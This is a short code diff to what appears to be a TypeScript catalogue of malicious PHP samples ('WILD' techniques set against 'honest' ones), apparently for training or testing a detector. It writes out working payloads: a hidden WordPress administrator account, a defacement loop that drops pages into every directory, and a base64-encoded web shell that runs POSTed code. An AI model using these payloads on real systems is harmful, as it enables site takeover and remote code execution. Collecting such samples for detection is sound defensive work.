@@ -85,7 +85,7 @@ export const WILD: readonly Technique[] = [
       php(
         `require('wp-blog-header.php'); $id = wp_create_user('sys', 'x'); $u = new WP_User($id); $u->set_role('administrator');`,
       ),
-      php(`foreach (scandir('.') as $d) if (is_dir($d)) file_put_contents("$d/i.html", '<h1>Hacked by nobody</h1>');`),
+      php(`foreach (scandir('.') as $d) if (is_dir($d)) file_put_contents("$d/i.html", '<h1>Hacked by someone</h1>');`),
       php(`file_put_contents('x.php', base64_decode('${base64('<?php eval($_POST[1]); ?>')}'));`),
     ],
     honest: [
